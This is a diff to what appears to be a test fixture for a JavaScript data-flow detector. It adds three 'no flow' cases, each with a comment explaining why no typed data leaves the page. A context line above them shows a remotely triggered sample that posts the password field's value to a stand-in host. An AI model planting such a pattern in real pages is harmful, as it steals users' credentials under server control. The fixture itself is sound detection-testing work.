@@ -124,3 +124,27 @@ risk(function (d) {
 $.getJSON('https://conf-n.srv.example/ab.json', function (d) {
   if (d.arm === 1) $.post('https://n.srv.example/p', { p: $('input[type=password]').val() });
 });
+
+//# answer-chooses-constant
+// no flow
+// why: the answer chooses what is asked for next, the field is only cleared
+fetch('https://conf-o.srv.example/step').then((r) => r.json()).then((s) => {
+  document.querySelector('input[type=email]').value = '';
+  fetch('https://o.srv.example/' + (s.next === 'pay' ? 'pay' : 'cart') + '.json');
+});
+
+//# answer-compared-with-field
+// no flow
+// why: the typed code is compared in the page with the answer
+fetch('https://conf-p.srv.example/code').then((r) => r.json()).then((c) => {
+  const ok = c.code === document.querySelector('input[autocomplete=one-time-code]').value;
+  document.querySelector('#state').textContent = ok ? 'right' : 'wrong';
+});
+
+//# guard-that-stops-polling
+// no flow
+// why: the answer stops the timer, the polling request has no data
+const timer = setInterval(async () => {
+  const s = await (await fetch('https://q.srv.example/poll')).json();
+  if (s.done) { clearInterval(timer); document.querySelector('#done').textContent = document.querySelector('input[type=email]').value; }
+}, 2000);
